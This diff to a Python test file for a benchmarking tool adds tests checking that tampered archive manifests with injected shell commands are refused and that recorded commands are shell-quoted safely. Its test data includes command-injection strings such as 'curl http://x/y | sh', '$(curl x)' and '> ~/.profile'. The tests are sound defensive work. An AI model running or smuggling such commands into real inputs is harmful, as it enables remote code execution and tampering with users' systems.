@@ -15,6 +15,7 @@ import pytest
 from bench import cli
 from bench.plan import plugins
 from bench.report.figures import Drawn
+from bench.report.results import gather
 from bench.run import archive, check
 from bench.run.store import Store
 from bench.run.submissions import of
@@ -246,6 +247,39 @@ def test_an_archive_says_nothing_of_names_that_its_rows_do_not_have(place):
     names = ("methods", "datasets", "scores", "definitions", "splits")
     assert {name: after[name] for name in names} == {name: before[name] for name in names}
     assert after["commands"][-1] == before["commands"][-1]
+
+
+COMMANDS = [
+    "python run_bench.py --name x; curl http://x/y | sh",
+    "curl http://x/y #run_bench.py",
+    "run_bench.py --name 'x",
+    "run_bench.py --name x\ncurl http://x/y",
+    "",
+]
+
+
+@pytest.mark.parametrize("text", COMMANDS)
+def test_a_command_that_is_not_this_projects_is_refused(place, capsys, text):
+    archives.tampered("run.zip", "changed.zip", manifest=lambda said: said["commands"][0].update(command=text))
+    assert "and no command of run_bench.py" in refusal(capsys, place, "--check", "0")
+
+
+@pytest.mark.parametrize(
+    "more", ["; curl http://x/y | sh", " && curl x", " `curl x`", " $(curl x)", " | sh", " > ~/.profile"]
+)
+def test_a_command_is_shown_so_that_a_shell_runs_nothing_else(place, capsys, more):
+    """As in the sentence about trials that are missing, which tells to give it again."""
+    text = f"run_bench.py --name x{more}"
+    archives.tampered("run.zip", "changed.zip", manifest=lambda said: said["commands"][0].update(command=text))
+    members = archives.members_of("changed.zip")
+    vae = next(line for line in members[archive.PLANNED].splitlines() if b",vae," in line)
+    plan = members[archive.PLANNED] + b"0" * 16 + vae[16:] + b"\n"
+    archives.write("changed.zip", archives.sealed(members | {archive.PLANNED: plan}).items())
+    assert cli.main(["merge", "changed.zip", "--out", "both", "--check", "0"]) == 0
+    (command,) = Store(RUNS / "both").manifest()["commands"]
+    assert command["command"] == shlex.join(shlex.split(text))
+    said = gather([Store(RUNS / "both")]).missing_text
+    assert f"`python {command['command']}`" in said and text not in said
 
 
 def test_no_row_of_an_archive_was_finished_later_than_it_was_merged(place):
